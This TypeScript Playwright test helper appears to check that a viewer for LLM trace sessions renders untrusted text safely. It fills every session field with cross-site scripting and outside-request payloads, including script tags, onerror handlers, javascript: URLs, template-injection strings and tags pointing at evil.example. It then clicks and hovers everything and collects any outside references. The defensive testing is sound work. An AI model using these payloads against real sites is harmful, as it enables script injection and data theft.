/// <reference lib="dom" />
import type { Page } from 'playwright-core';
import { said, span } from './shown-session.js';

const HOST = 'http://evil.example';

/** Texts that would run something, or ask another host, on a page that took them for more than texts. */
export const HOSTILE = [
  `<script src="${HOST}/s.js">ran()</script>`,
  `<img src="${HOST}/i.png" onerror="ran()" onload="ran()"><picture><source srcset="${HOST}/p.png"></picture>`,
  `<svg onload="ran()"><image href="${HOST}/v.png"/><use href="${HOST}/u.svg#a"/></svg>`,
  `<iframe src="${HOST}/f" srcdoc="<script>parent.ran()</script>"></iframe><object data="${HOST}/o"></object>`,
  `<video src="${HOST}/v.mp4" poster="${HOST}/v.png" autoplay></video><audio src="${HOST}/a.mp3" autoplay></audio>`,
  `<link rel="prefetch" href="${HOST}/pre"><link rel="dns-prefetch" href="${HOST}"><link rel="icon" href="${HOST}/fav.ico">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/m"><base href="${HOST}/">`,
  `<style>@import url(${HOST}/c.css); body { background: url(${HOST}/b.png) }</style>`,
  `<a href="${HOST}/a" ping="${HOST}/ping">ping</a><form action="${HOST}/form"><button>send</button></form>`,
  `<div style="background:url(${HOST}/d.png)" onmouseover="ran()" onfocus="ran()" tabindex="0">hover</div>`,
  `![picture](${HOST}/md.png) [![linked](${HOST}/in.png)](${HOST}/link) ![data](data:image/svg+xml,<svg onload=ran()>)`,
  `[js](javascript:ran()) [data](data:text/html,<script>ran()</script>) <javascript:ran()> [rel](/sessions?x) [//](//evil.example)`,
  `Footnote[^1] and ![by reference][r].\n\n[^1]: ![in a footnote](${HOST}/fn.png) <img src="${HOST}/fn2.png">\n[r]: ${HOST}/r.png "a title"`,
  `| ![cell](${HOST}/t.png) | <img src=${HOST}/t2.png> |\n| - | - |\n| \`<img src=x onerror=ran()>\` | x |`,
  `\`\`\`html\n<script>ran()</script>\n<img src="${HOST}/code.png">\n\`\`\``,
  `"><script>ran()</script><img src=x onerror=ran()> ' onmouseover='ran() {{constructor.constructor('ran()')()}}`,
  `url(${HOST}/css.png) \\00003cscript\\00003e </textarea><script>ran()</script> </title><script>ran()</script>`,
];

const ALL = HOSTILE.join('\n\n');

/** A session in which every field that can hold a text holds a hostile one. */
export function hostileSpans(session: string) {
  const messages = JSON.stringify([
    { role: 'system', content: ALL },
    {
      role: 'user',
      content: [
        { type: 'image_url', image_url: { url: `${HOST}/part.png` } },
        { type: 'text', text: ALL },
      ],
    },
    {
      role: 'assistant',
      name: HOSTILE[0],
      content: ALL,
      tool_calls: [
        { id: 'c1', function: { name: HOSTILE[1], arguments: JSON.stringify({ [HOSTILE[2] ?? '']: HOSTILE }) } },
      ],
    },
    { role: 'tool', tool_call_id: 'c1', content: ALL },
  ]);
  const turns = HOSTILE.map((text, n) =>
    span(1, {
      trace: n + 1,
      name: text,
      from: n * 60_000,
      attributes: {
        ...said(session, text, text),
        'user.id': text,
        'langfuse.trace.tags': JSON.stringify([text]),
        'langfuse.environment': text,
        'langfuse.trace.metadata': JSON.stringify({ [text]: text }),
        'gen_ai.conversation.id': text,
      },
    }),
  );
  const steps = HOSTILE.map((text, n) =>
    span(2, {
      trace: n + 1,
      parent: 1,
      name: text,
      from: n * 60_000 + 100,
      to: n * 60_000 + 200,
      attributes: {
        'langfuse.observation.type': 'generation',
        'langfuse.observation.level': 'ERROR',
        'langfuse.observation.status_message': text,
        'langfuse.observation.model.name': text,
        'langfuse.observation.metadata': JSON.stringify({ [text]: [text] }),
        'langfuse.observation.input': messages,
        'langfuse.observation.output': n % 2 === 0 ? JSON.stringify({ [text]: text }) : messages,
      },
    }),
  );
  return [...turns, ...steps];
}

/** Scrolls, hovers over, focuses, begins to drag and clicks everything; only links that are marked as leading away are not clicked. */
export async function tryEverything(page: Page): Promise<void> {
  await page.evaluate(async () => {
    const nextFrame = () => new Promise((resolve) => requestAnimationFrame(resolve));
    for (const area of document.querySelectorAll('[role="group"]')) {
      area.scrollTo(0, area.scrollHeight);
      await nextFrame();
      area.scrollTo(0, 0);
    }
    const inPage = 'button, summary, [role="treeitem"], [tabindex], img, span, code, td, a[target], a:not([href])';
    for (const element of document.querySelectorAll<HTMLElement>(inPage)) {
      for (const type of ['pointerover', 'mouseover', 'dragstart'])
        element.dispatchEvent(new Event(type, { bubbles: true }));
      element.focus({ preventScroll: true });
      const isLink = element.closest('a[href]') !== null;
      // A click on what is in a summary would close again what the click on the summary opened.
      if (!isLink && !element.matches('summary *')) element.click();
    }
    await nextFrame();
    // A dialog that was opened stands before all else.
    for (const dialog of document.querySelectorAll('dialog')) dialog.close();
  });
}

/** What in the page names another host other than as an explicit link, whether or not the browser has asked it yet. */
export async function outsideReferences(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => {
          if (/^on|^ping$|^srcdoc$/.test(name)) return true;
          const isLink = element.matches('a[target="_blank"][rel~="noreferrer"][rel~="noopener"]') && name === 'href';
          const isSource = /^(src|srcset|href|poster|data|action|formaction|style|background)$/.test(name);
          return isSource && !isLink && value.includes('evil.example') && !value.startsWith('/');
        })
        .map(({ name, value }) => `${element.tagName} ${name}=${value.slice(0, 100)}`),
    ),
  );
}
